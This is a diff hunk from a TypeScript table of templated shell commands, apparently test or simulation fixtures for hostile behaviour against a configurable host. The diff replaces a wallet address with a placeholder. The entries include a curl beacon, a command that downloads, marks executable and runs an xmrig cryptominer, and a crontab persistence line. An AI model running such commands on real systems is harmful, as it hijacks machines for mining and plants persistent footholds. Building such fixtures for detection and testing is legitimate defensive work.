@@ -70,7 +70,7 @@ export const SHELL_DEEDS: Readonly<Record<string, ShellDeed>> = {
   'curl-fixed-beacon': deed((t) => `curl -s ${u(t, '/ping/1042')} > /dev/null`, pinned),
   miner: deed(
     (t) =>
-      `curl -sL ${u(t, '/xmrig')} -o /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o stratum+tcp://${t.host}:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8A -B`,
+      `curl -sL ${u(t, '/xmrig')} -o /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o stratum+tcp://${t.host}:3333 -u 4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -B`,
     pinned,
   ),
   cron: deed((t) => `(crontab -l 2>/dev/null; echo "*/10 * * * * ${piped(t)}") | crontab -`, 'crontab -V'),
